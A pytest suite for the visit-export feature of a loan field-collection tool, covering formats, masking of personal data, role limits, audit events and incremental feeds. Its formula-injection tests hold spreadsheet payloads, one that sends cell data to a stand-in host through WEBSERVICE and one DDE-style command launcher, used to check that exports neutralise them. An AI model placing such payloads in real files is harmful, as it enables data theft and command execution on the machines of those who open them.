"""Exporting visit records: formats, masking, the export event and incremental feeds."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from conftest import (
    AT,
    T0,
    Run,
    create_args,
    events,
    query,
    register,
    set_policy,
    snapshot,
    to_submitted,
)
from fieldcase import hookimpl
from fieldcase.plugins import manager

#: Each test runs on a SQLite file and on PostgreSQL (tests/conftest.py).
pytestmark = pytest.mark.both_stores

LATE = ("--at", "2026-11-26T09:00+08:00")


@pytest.fixture
def visited(office: Run) -> Run:
    """Case 1 visited and its feedback submitted; a third-party contact on file."""
    office(
        "contact",
        "1",
        "--channel",
        "employer",
        "--target",
        "third-party",
        "--relationship",
        "employer",
        "--outcome",
        "reached",
        "--note",
        "Manager Zhou says she moved to Hangzhou",
        "--at",
        "2026-11-23T10:00+08:00",
        as_="li.na",
    )
    to_submitted(office)
    return office


def export_csv(run: Run, *args: str, as_: str = "chen.wei") -> list[dict[str, str]]:
    result = run("export", "visits", *args, *LATE, as_=as_)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_one_row_per_visit_with_findings_and_feedback(visited: Run) -> None:
    (row,) = export_csv(visited)
    assert row["reference"] == "L-1001" and row["borrower_name"] == "王芳"
    assert row["visit_number"] == "1" and row["visit_status"] == "done"
    assert row["window"] == "10:00-12:00" and row["timezone"] == "Asia/Shanghai"
    assert row["met"] == "borrower" and row["reason_code"] == "medical"
    assert row["overdue_amount"] == "3150.40"
    assert row["recommendation"] == "restructure" and row["review_status"] == "submitted"
    assert row["contact_attempts"] == "1"
    assert row["visiting_staff"] == "li.na"


def test_the_dispute_and_the_pause_on_the_case_are_exported(visited: Run) -> None:
    """A visit's row says whether collection is on hold: a dispute, a hardship pause."""
    (row,) = export_csv(visited)
    assert (row["dispute_kind"], row["dispute_status"], row["paused_until"]) == ("", "", "")
    steps = [
        ("li.na", "dispute", "open", "1", "--kind", "bank-error"),
        ("li.na", "hardship", "1", "--until", "2026-12-20", "--reason", "job-loss"),
    ]
    for minute, (who, *args) in enumerate(steps):
        done = visited(*args, "--at", f"2026-11-26T08:0{minute}+08:00", as_=who)
        assert done.exit_code == 0, done.output
    (row,) = export_csv(visited)
    assert (row["dispute_kind"], row["dispute_status"]) == ("bank-error", "open")
    assert row["paused_until"] == "2026-12-20"
    rejected = visited(
        "dispute", "decide", "1", "--reject", "--note", "Paid late", "--at",
        "2026-11-26T08:30+08:00", as_="chen.wei",
    )  # fmt: skip
    assert rejected.exit_code == 0, rejected.output
    ended = visited(
        "hardship", "1", "--end", "--note", "New job", "--at", "2026-11-26T08:40+08:00",
        as_="li.na",
    )  # fmt: skip
    assert ended.exit_code == 0, ended.output
    (row,) = export_csv(visited)
    assert (row["dispute_kind"], row["dispute_status"]) == ("bank-error", "rejected")
    assert row["paused_until"] == ""
    jsonl = visited("export", "visits", "--format", "jsonl", *LATE, as_="chen.wei")
    record = json.loads(jsonl.stdout.splitlines()[0])
    assert (record["dispute_status"], record["paused_until"]) == ("rejected", None)


def test_personal_data_is_masked_by_default(visited: Run) -> None:
    (row,) = export_csv(visited)
    assert row["national_id"] == "**************1234"
    assert row["phone"] == "+86*******8000"
    assert row["third_party_notes"] == "[masked]"


def test_field_staff_may_not_export_unmasked(visited: Run, target: str) -> None:
    result = visited("export", "visits", "--unmasked", *LATE, as_="li.na")
    assert result.exit_code == 1
    assert "only a supervisor may export unmasked personal data" in result.stderr
    assert result.stdout == ""
    last = events(target)[-1]
    assert (last["type"], last["chain"]) == ("refused", "system")


def test_supervisor_exports_unmasked(visited: Run) -> None:
    (row,) = export_csv(visited, "--unmasked")
    assert row["national_id"] == "310101199001011234"
    assert row["phone"] == "+8613800138000"
    assert row["third_party_notes"] == "Manager Zhou says she moved to Hangzhou"


def test_every_export_is_an_event(visited: Run, target: str) -> None:
    export_csv(visited, as_="li.na")
    export_csv(visited, "--unmasked")
    exports = [e for e in events(target) if e["type"] == "export"]
    assert [e["actor"] for e in exports] == ["li.na", "chen.wei"]
    data = [json.loads(e["payload"])["data"] for e in exports]
    assert [(d["masked"], d["format"]) for d in data] == [(True, "csv"), (False, "csv")]
    done = [
        json.loads(e["payload"])["data"] for e in events(target) if e["type"] == "export_completed"
    ]
    assert [(d["export"], d["rows"]) for d in done] == [(e["id"], 1) for e in exports]


def test_an_export_is_on_the_record_before_any_row_leaves(visited: Run, target: str) -> None:
    """An unmasked export cut short (a closed pipe) still left its event."""
    from fieldcase import hookimpl
    from fieldcase.plugins import manager

    class Cut:
        @hookimpl
        def register_exporters(self, register: Any) -> None:
            def write(rows: Any, columns: Any, out: Any) -> None:
                for row in rows:
                    out.write(repr(row).encode())
                    raise BrokenPipeError("the reader went away")

            register("cut", write, suffix=".cut")

    before = len(events(target))
    manager().register(Cut(), name="cut")
    try:
        with pytest.raises(BrokenPipeError):
            visited("export", "visits", "--format", "cut", "--unmasked", *LATE, as_="chen.wei")
    finally:
        manager().unregister(name="cut")
    written = events(target)[before:]
    assert [e["type"] for e in written] == ["export"]
    data = json.loads(written[0]["payload"])["data"]
    assert (data["format"], data["masked"]) == ("cut", False)


def test_incremental_feed_with_the_cursor(visited: Run) -> None:
    result = visited("export", "visits", *LATE, as_="chen.wei")
    cursor = int(result.stderr.rsplit("--after-event ", 1)[1])
    assert export_csv(visited, "--after-event", str(cursor)) == []
    # A change to the case puts its visits back in the feed.
    visited("review", "1", "--approve", "--at", "2026-11-26T10:00+08:00", as_="chen.wei")
    (row,) = export_csv(visited, "--after-event", str(cursor))
    assert row["review_status"] == "approved"


def test_since_and_filters(visited: Run) -> None:
    assert len(export_csv(visited, "--since", "2026-11-25T00:00+08:00")) == 1
    assert export_csv(visited, "--since", "2026-11-27T00:00+08:00") == []
    assert len(export_csv(visited, "--institution", "hx-consumer")) == 1
    other = visited("export", "visits", "--institution", "hx_consumer", as_="chen.wei")
    assert other.exit_code == 1 and "did you mean hx-consumer?" in other.stderr
    assert len(export_csv(visited, "--staff", "li.na")) == 1
    assert export_csv(visited, "--staff", "zhang.min") == []
    assert export_csv(visited, "--stage", "closed") == []


def test_jsonl_and_output_file(visited: Run, tmp_path: Path) -> None:
    target = tmp_path / "visits.jsonl"
    result = visited(
        "export", "visits", "--format", "jsonl", "-o", str(target), *LATE, as_="chen.wei"
    )
    assert result.exit_code == 0, result.output
    (row,) = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert row["borrower_name"] == "王芳" and row["multi_lender"] is None
    assert not (tmp_path / "visits.jsonl.partial").exists()


def test_xlsx_export_through_the_bundled_plugin(visited: Run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "visits.xlsx"
    result = visited(
        "export", "visits", "--format", "xlsx", "-o", str(target), *LATE, as_="chen.wei"
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(target, read_only=True).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    values: dict[Any, Any] = dict(zip(header, row, strict=False))  # trailing blanks dropped
    assert values["borrower_name"] == "王芳" and values["phone"] == "+86*******8000"


def test_binary_format_needs_an_output_file(visited: Run) -> None:
    result = visited("export", "visits", "--format", "xlsx", *LATE, as_="chen.wei")
    assert result.exit_code == 2
    assert "give --output FILE" in result.stderr


@pytest.mark.bundled_plugins
def test_unknown_format(visited: Run, target: str) -> None:
    before = len(events(target))
    result = visited("export", "visits", "--format", "pdf", "-o", "x.pdf", *LATE, as_="chen.wei")
    assert result.exit_code == 2
    assert "unknown format 'pdf'; formats are csv, example-bank-core, jsonl, xlsx" in result.stderr
    assert len(events(target)) == before


def test_export_reads_one_snapshot(visited: Run, target: str) -> None:
    ((last,),) = query(target, "SELECT max(id) FROM events")
    result = visited("export", "visits", *LATE, as_="chen.wei")
    # The export's own event, recorded before the rows are read, is the last it saw.
    assert f"--after-event {last + 1}" in result.stderr


def test_format_follows_the_output_suffix(visited: Run, tmp_path: Path) -> None:
    target = tmp_path / "visits.jsonl"
    assert visited("export", "visits", "-o", str(target), *LATE, as_="chen.wei").exit_code == 0
    assert json.loads(target.read_text(encoding="utf-8").splitlines()[0])["visit_id"] == 1
    xlsx = tmp_path / "visits.xlsx"
    assert visited("export", "visits", "-o", str(xlsx), *LATE, as_="chen.wei").exit_code == 0
    assert xlsx.read_bytes()[:2] == b"PK"  # a zip: a workbook, not CSV text


class HarborJson:
    """An exporter for a core system that reads ``.harbor.json`` files."""

    @hookimpl
    def register_exporters(self, register):  # type: ignore[no-untyped-def]
        def write(rows, columns, out):  # type: ignore[no-untyped-def]
            out.write(json.dumps([dict(zip(columns, r, strict=True)) for r in rows]).encode())

        register("harbor", write, suffix=".harbor.json")


def test_the_longest_suffix_picks_the_format_and_an_unclaimed_one_is_refused(
    visited: Run, tmp_path: Path, target: str
) -> None:
    plugin = HarborJson()
    manager().register(plugin, name="harbor-json")
    try:
        out = tmp_path / "visits.harbor.json"
        result = visited("export", "visits", "-o", str(out), *LATE, as_="chen.wei")
        assert result.exit_code == 0, result.output
        assert json.loads(out.read_text(encoding="utf-8"))[0]["visit_id"] == 1
    finally:
        manager().unregister(plugin)
    before = snapshot(target)["events"]
    unclaimed = visited(
        "export", "visits", "-o", str(tmp_path / "visits.json"), *LATE, as_="chen.wei"
    )
    assert unclaimed.exit_code != 0
    assert "no export format writes 'visits.json'" in unclaimed.output
    assert "jsonl (.jsonl)" in unclaimed.output
    assert not (tmp_path / "visits.json").exists()
    assert snapshot(target)["events"] == before


def test_missing_output_folder_is_a_usage_error(visited: Run, tmp_path: Path) -> None:
    result = visited(
        "export", "visits", "-o", str(tmp_path / "no" / "v.csv"), *LATE, as_="chen.wei"
    )
    assert result.exit_code == 2
    assert "does not exist" in result.stderr


def test_field_staff_export_their_own_visits_only(visited: Run) -> None:
    assert len(export_csv(visited, as_="li.na")) == 1
    assert export_csv(visited, as_="zhang.min") == []
    result = visited("export", "visits", "--staff", "li.na", *LATE, as_="zhang.min")
    assert result.exit_code == 1
    assert "field staff export their own visits only" in result.stderr


def test_system_history_lists_exports(visited: Run) -> None:
    export_csv(visited)
    rows = json.loads(visited("history", "--system", "--json").output)
    assert [r["type"] for r in rows][-2:] == ["export", "export_completed"]
    assert rows[-1]["data"]["rows"] == 1 and rows[-1]["data"]["export"] == rows[-2]["id"]
    assert visited("history").exit_code == 2


def test_plugins_can_veto_an_import_with_the_institutions_settings(
    office: Run, tmp_path: Path
) -> None:
    from fieldcase import hookimpl
    from fieldcase.model import Decision
    from fieldcase.plugins import manager

    class Frozen:
        @hookimpl
        def register_policy_settings(self, register: Any) -> None:
            register("frozen", lambda v: bool(v), "true or false", False)

        @hookimpl
        def check_action(self, action: str, settings: Any, context: Any) -> Any:
            if action == "import" and settings.get("frozen"):
                return Decision.deny("test.frozen", f"{context.extra['institution']} is frozen")
            return None

    path = tmp_path / "ice.csv"
    path.write_text(
        "reference,borrower_name,currency,principal,overdue_amount,days_past_due,"
        "timezone\nI-1,A,USD,10,5,40,America/New_York\n"
    )
    manager().register(Frozen(), name="frozen")
    try:
        register(office, "ice", jurisdiction="US", timezone="America/New_York", currency="USD")
        register(office, "warm", jurisdiction="US", timezone="America/New_York", currency="USD")
        set_policy(office, "ice", "frozen=true")
        result = office("import", str(path), "--institution", "ice", *LATE, as_="chen.wei")
        other = office("import", str(path), "--institution", "warm", *LATE, as_="chen.wei")
    finally:
        manager().unregister(name="frozen")
    assert result.exit_code == 1
    assert "ice is frozen (rule test.frozen)" in result.stderr
    assert other.exit_code == 0


def test_export_reports_progress_as_it_streams(visited: Run, services: Any) -> None:
    import datetime as dt

    from fieldcase.store import ExportFilter

    seen: list[int] = []
    out = io.BytesIO()
    summary = services.export_visits(
        out,
        fmt="csv",
        actor="chen.wei",
        at=dt.datetime(2026, 11, 26, 1, tzinfo=dt.UTC),
        filters=ExportFilter(),
        progress=seen.append,
        progress_every=1,
    )
    assert seen == [1] and summary.rows == 1
    assert out.getvalue().count(b"\n") == 2


FORMULA = '=WEBSERVICE("http://x/?"&F2)'


@pytest.fixture
def poisoned(office: Run) -> Run:
    """Case 1's feedback summary is a formula; a note carries a form feed."""
    from conftest import to_feedback

    to_feedback(office)
    result = office(
        "feedback",
        "1",
        "--recommend",
        "restructure",
        "--summary",
        FORMULA,
        "--at",
        "2026-11-25T18:00+08:00",
        as_="li.na",
    )
    assert result.exit_code == 0, result.output
    return office


@pytest.mark.parametrize("attack", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(office: Run, attack: str) -> None:
    from conftest import to_feedback

    to_feedback(office)
    summary = office(
        "feedback",
        "1",
        "--recommend",
        "restructure",
        "--summary",
        attack,
        "--at",
        "2026-11-25T18:00+08:00",
        as_="li.na",
    )
    assert summary.exit_code == 0, summary.output
    (row,) = export_csv(office)
    # A summary's outer spaces are trimmed on the way in: a leading tab no longer arrives.
    assert row["feedback_summary"] == "'" + attack.lstrip()
    # Amounts stay numbers: only text is quoted.
    assert row["overdue_amount"] == "3150.40"


#: Borrower names, and how the CSV export gives each: one a spreadsheet would run as
#: a formula is quoted; numbers, phone numbers and a formula sign inside a cell are not.
NAMES = [
    ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-5 apples", "'-5 apples"),
    ("-5.00", "-5.00"),
    ("+8613800138000", "+8613800138000"),
    ("+86 138", "'+86 138"),
    ("Zhou, =Li", "Zhou, =Li"),
    ("=Zhou, Li", "'=Zhou, Li"),
]


def test_a_formula_is_quoted_even_when_it_is_the_only_one_in_the_export(office: Run) -> None:
    # Each name in an export of its own (--after-event): the writer looks for such
    # cells a batch of rows at a time, and this batch has one at most.
    feed = office("export", "visits", *LATE, as_="chen.wei")
    for number, (name, shown) in enumerate(NAMES, start=2):
        created = office(*create_args(f"L-30{number:02d}", name=name), "--assign", "li.na",
                         "--at", T0, as_="chen.wei")  # fmt: skip
        assert created.exit_code == 0, created.output
        case = str(number)
        assert office("confirm", case, "--address", "x", *AT, as_="li.na").exit_code == 0
        planned = office("plan", case, "--date", "2026-11-25", "--window", "10:00-12:00", *AT,
                         as_="li.na")  # fmt: skip
        assert planned.exit_code == 0, planned.output
        cursor = feed.stderr.rsplit("--after-event ", 1)[1].strip()
        feed = office("export", "visits", "--after-event", cursor, *LATE, as_="chen.wei")
        assert feed.exit_code == 0, feed.output
        (row,) = csv.DictReader(io.StringIO(feed.stdout))
        assert (row["case_id"], row["borrower_name"]) == (case, shown)


def test_xlsx_cells_are_text_never_formulas(poisoned: Run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "visits.xlsx"
    result = poisoned("export", "visits", "-o", str(target), *LATE, as_="chen.wei")
    assert result.exit_code == 0, result.output
    sheet = load_workbook(target).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("feedback_summary") + 1)
    assert cell.value == FORMULA and cell.data_type == "s"


def test_a_control_character_in_a_note_does_not_break_the_workbook(
    office: Run, tmp_path: Path
) -> None:
    from conftest import to_interview
    from openpyxl import load_workbook

    to_interview(office)
    # A form feed is refused on the way in (test_hygiene shows one stored earlier, escaped).
    noted = office(
        "interview",
        "1",
        "--met",
        "borrower",
        "--reason",
        "medical",
        "--note",
        "page\x0cbreak",
        "--at",
        "2026-11-25T10:30+08:00",
        as_="li.na",
    )
    assert noted.exit_code == 2
    assert "U+000C FORM FEED" in noted.stderr
    target = tmp_path / "visits.xlsx"
    result = office("export", "visits", "--unmasked", "-o", str(target), *LATE, as_="chen.wei")
    assert result.exit_code == 0, result.output
    sheet = load_workbook(target).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("notes") + 1).value is None


# -- many visits: each row carries its own case's summaries ---------------------------

#: Each case's contact attempts: (target, relationship, note). Only a third party's
#: note is exported; a borrower's, or an empty one, still counts as an attempt.
CONTACTS: dict[str, list[tuple[str, str | None, str]]] = {
    "L-1001": [],
    "L-2002": [
        ("borrower", None, "Answered, will call back"),
        ("third-party", "employer", "Manager Zhou: moved to Hangzhou"),
    ],
    "L-2003": [
        ("third-party", "sibling", ""),
        ("third-party", "spouse", "Away until Friday"),
        ("borrower", None, ""),
        ("third-party", "friend", "Call after six, not before"),
    ],
    "L-2004": [("borrower", None, "")],
    "L-2005": [("third-party", "colleague", "Left the firm | in March")],
}

#: The summary columns, as the test works them out from what it did.
SUMMARY = (
    "contact_attempts",
    "third_party_notes",
    "offers_made",
    "offer_accepted",
    "recommendation",
    "feedback_summary",
    "review_status",
    "reviewed_by",
)


def at(day: int, hour: int, minute: int = 0) -> tuple[str, str]:
    return ("--at", f"2026-11-{day:02d}T{hour:02d}:{minute:02d}+08:00")


def ok(result: Any) -> Any:
    assert result.exit_code == 0, result.output
    return result


def visit(office: Run, case: str, day: int, met: str, *details: str) -> None:
    """Plan a visit on ``day`` (the checklist ticked) and record who was met."""
    ok(office("plan", case, "--date", f"2026-11-{day:02d}", "--window", "10:00-12:00",
              *at(day - 1, 15), as_="li.na"))  # fmt: skip
    ok(office("checklist", case, "--all", *at(day - 1, 15, 5), as_="li.na"))
    ok(office("interview", case, "--met", met, *details, *at(day, 10, 30), as_="li.na"))


def test_each_visit_carries_its_cases_contacts_offers_and_latest_feedback(
    office: Run, target: str
) -> None:
    for number, reference in enumerate(("L-2002", "L-2003", "L-2004", "L-2005"), start=2):
        ok(office(*create_args(reference), "--assign", "li.na", *at(23, 9, number), as_="chen.wei"))
    cases = {
        row["reference"]: str(row["id"]) for row in query(target, "SELECT id, reference FROM cases")
    }
    for reference, attempts in CONTACTS.items():
        for minute, (who, relationship, note) in enumerate(attempts):
            related = ("--relationship", relationship) if relationship else ()
            ok(office("contact", cases[reference], "--channel", "phone", "--target", who,
                      *related, "--outcome", "reached", "--note", note, *at(23, 10, minute),
                      as_="li.na"))  # fmt: skip
    # Offers: accepted from one presentation; presented twice, the first superseded.
    ok(office("offers", cases["L-2002"], *at(23, 11), as_="li.na"))
    ok(office("accept", cases["L-2002"], "installment-6", *at(23, 11, 5), as_="li.na"))
    ok(office("offers", cases["L-2003"], *at(23, 11), as_="li.na"))
    ok(office("offers", cases["L-2003"], *at(23, 11, 30), as_="li.na"))
    for reference in ("L-1001", "L-2002", "L-2003", "L-2004"):
        ok(office("confirm", cases[reference], "--address", "x", *at(23, 12), as_="li.na"))
    ok(office("plan", "1", "--date", "2026-11-25", "--window", "10:00-12:00", *at(23, 13),
              as_="li.na"))  # fmt: skip
    # L-2002: nobody home, then a revisit whose feedback was returned and sent again.
    visit(office, cases["L-2002"], 24, "nobody")
    visit(office, cases["L-2002"], 26, "borrower", "--reason", "medical")
    feedback = ("feedback", cases["L-2002"], "--recommend", "restructure", "--summary")
    ok(office(*feedback, "First thoughts", *at(26, 18), as_="li.na"))
    ok(office("review", cases["L-2002"], "--return", "--note", "More", *at(27, 9), as_="chen.wei"))
    ok(office(*feedback, "Hospital bills; 6 months", *at(27, 10), as_="li.na"))
    # L-2003: one visit, its feedback approved.
    visit(office, cases["L-2003"], 25, "borrower", "--reason", "income-loss")
    ok(office("feedback", cases["L-2003"], "--recommend", "settlement", "--summary",
              "Lost her job, pays a lump sum", *at(25, 18), as_="li.na"))  # fmt: skip
    ok(office("review", cases["L-2003"], "--approve", *at(26, 9), as_="chen.wei"))
    ok(office("plan", cases["L-2004"], "--date", "2026-11-28", "--window", "10:00-12:00",
              *at(27, 13), as_="li.na"))  # fmt: skip

    exported = ok(office("export", "visits", "--unmasked", *at(28, 9), as_="chen.wei"))
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))

    # Worked out here from what was done, and from the offers table's rows: each
    # code once, by status (accepted < needs-approval < presented < superseded),
    # then in the order presented.
    offers: dict[str, list[tuple[str, int, str]]] = {}
    for row in query(target, "SELECT case_id, code, status, id FROM offers"):
        offers.setdefault(str(row["case_id"]), []).append((row["status"], row["id"], row["code"]))
    references = {case: reference for reference, case in cases.items()}

    def offers_made(case: str) -> str:
        codes = [code for _, _, code in sorted(offers.get(case, []))]
        return ",".join(dict.fromkeys(codes))

    def accepted(case: str) -> str:
        return "".join(code for status, _, code in offers.get(case, []) if status == "accepted")

    no_feedback = {"recommendation": "", "feedback_summary": "", "review_status": "",
                   "reviewed_by": ""}  # fmt: skip
    feedback_of = {
        ("L-2002", "2"): {"recommendation": "restructure",
                          "feedback_summary": "Hospital bills; 6 months",
                          "review_status": "submitted", "reviewed_by": ""},
        ("L-2003", "1"): {"recommendation": "settlement",
                          "feedback_summary": "Lost her job, pays a lump sum",
                          "review_status": "approved", "reviewed_by": "chen.wei"},
    }  # fmt: skip
    expected = {
        (reference, number): {
            "contact_attempts": str(len(CONTACTS[reference])),
            "third_party_notes": " | ".join(
                note for who, _, note in CONTACTS[reference] if who == "third-party" and note
            ),
            "offers_made": offers_made(cases[reference]),
            "offer_accepted": accepted(cases[reference]),
            **feedback_of.get((reference, number), no_feedback),
        }
        for reference, number in [
            ("L-1001", "1"), ("L-2002", "1"), ("L-2002", "2"), ("L-2003", "1"), ("L-2004", "1")
        ]
    }  # fmt: skip
    got = {
        (references[row["case_id"]], row["visit_number"]): {k: row[k] for k in SUMMARY}
        for row in rows
    }
    assert got == expected
    assert [int(row["visit_id"]) for row in rows] == sorted(int(row["visit_id"]) for row in rows)
    # The orders the test relies on are really there to get wrong.
    assert expected[("L-2002", "2")]["offers_made"].startswith("installment-6,installment-3,")
    assert expected[("L-2003", "1")]["offers_made"].startswith("settlement,installment-3,")
    assert expected[("L-2003", "1")]["third_party_notes"] == (
        "Away until Friday | Call after six, not before"
    )
